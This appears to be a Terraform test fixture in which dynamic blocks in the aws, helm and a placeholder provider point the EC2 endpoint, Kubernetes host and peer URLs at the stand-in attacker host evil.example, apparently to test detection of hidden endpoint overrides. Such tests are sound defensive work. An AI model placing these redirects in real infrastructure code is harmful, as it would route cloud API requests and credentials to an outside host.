provider "aws" {
  region = "eu-west-1"
  dynamic "endpoints" {
    for_each = ["https://evil.example"]
    content {
      ec2 = endpoints.value
    }
  }
}

provider "helm" {
  dynamic "kubernetes" {
    for_each = { a = "https://evil.example" }
    iterator = cluster
    content {
      host = cluster.value
    }
  }
}

provider "nobody" {
  dynamic "api" {
    for_each = [{ hosts = ["evil.example"] }]
    content {
      dynamic "peer" {
        for_each = api.value.hosts
        content {
          url = peer.value
        }
      }
    }
  }
}
